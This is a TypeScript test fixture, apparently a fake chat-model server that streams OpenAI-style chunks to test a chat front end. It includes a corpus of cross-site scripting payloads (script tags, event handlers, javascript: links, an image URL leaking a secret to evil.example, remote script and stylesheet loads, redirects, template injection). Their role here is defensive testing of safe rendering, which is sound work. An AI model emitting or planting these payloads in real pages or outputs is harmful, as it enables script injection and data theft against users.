import type { ServerResponse } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';
import type { ChatChunk, ChatUsage } from '#chat/chat.contract.ts';

/** Model output that would run, load or leave the page if anything but text were made of it. */
export const XSS_CORPUS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=2">',
  '<svg onload=window.pwned=3>',
  '"><script src=https://evil.example/x.js></script>',
  '<iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  '[click](javascript:window.pwned=5)',
  '![leak](https://evil.example/leak.png?q=secret)',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<form action=https://evil.example><button autofocus>Sign in</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=6&gt;">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as a model may write it
  '{{constructor.constructor("window.pwned=7")()}} ${window.pwned=8} <%= 1 %>',
  '&lt;script&gt;window.pwned=9&lt;/script&gt; \u202Eevitcelfer\u202C \u0000\uFEFF',
  '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">',
];

const PLAIN =
  'A liquidity coverage ratio asks a bank to hold enough high-quality liquid assets to survive thirty days of stress. ' +
  'The ratio divides those assets by the net cash that would flow out in that month.\n\n' +
  'It must stay at or above one hundred percent, and supervisors look at it daily when markets are tense.';
const CHINESE =
  '流动性覆盖率要求银行持有足够的优质流动性资产，以应对三十天的压力情景。\n\n该比率等于优质流动性资产除以未来三十天的净现金流出量，监管要求不低于百分之百。';

/** What the question asks the fake model for: `xss`, `long`, `error`, `cut` (no `[DONE]`), `think`, else a plain answer. */
export function answerTo(question: string): { readonly text: string; readonly end: 'done' | 'error' | 'cut' } {
  if (question.includes('xss')) return { text: XSS_CORPUS.join('\n'), end: 'done' };
  if (question.includes('long')) return { text: `${PLAIN}\n\n`.repeat(12), end: 'done' };
  if (question.includes('error')) return { text: PLAIN.slice(0, 60), end: 'error' };
  if (question.includes('cut')) return { text: PLAIN.slice(0, 90), end: 'cut' };
  return { text: /[\u4e00-\u9fff]/.test(question) ? CHINESE : PLAIN, end: 'done' };
}

/** Streams as the gateway does: role, words, finish, usage, the promise as a comment, `[DONE]`. True where it came to its end. */
export async function stream(
  response: ServerResponse,
  model: string,
  question: string,
  stepMs: number,
): Promise<boolean> {
  const { text, end } = answerTo(question);
  const words = text.match(/.{1,6}/gsu) ?? [];
  const usage: ChatUsage = {
    prompt_tokens: 24,
    completion_tokens: words.length,
    total_tokens: 24 + words.length,
    prompt_tokens_details: { cached_tokens: 0 },
  };
  const chunk = (
    delta: ChatChunk['choices'][number]['delta'],
    finish: 'stop' | null,
    spent: ChatUsage | null = null,
  ): string => {
    const value: ChatChunk = {
      id: 'chatcmpl-fake',
      object: 'chat.completion.chunk',
      created: 1_790_000_000,
      model,
      choices: spent === null ? [{ index: 0, delta, logprobs: null, finish_reason: finish }] : [],
      usage: spent,
    };
    return `data: ${JSON.stringify(value)}\n\n`;
  };
  response.write(': waiting\n\n');
  response.write(chunk({ role: 'assistant', content: '' }, null));
  if (question.includes('think'))
    for (const part of ['First, <b>what is meant</b>? ', 'Then the ratio.'])
      response.write(chunk({ reasoning_content: part }, null));
  for (const word of words) {
    await delay(stepMs);
    if (response.destroyed) return false;
    response.write(chunk({ content: word }, null));
  }
  if (end === 'error') {
    response.end(
      'data: {"error":{"message":"The engine ended.","type":"server_error","param":null,"code":"engine_failed"}}\n\n',
    );
    return true;
  }
  if (end === 'done') {
    response.write(chunk({}, 'stop'));
    response.write(chunk({}, null, usage));
    response.write(': audit-promise fake\n\ndata: [DONE]\n\n');
  }
  response.end();
  return true;
}
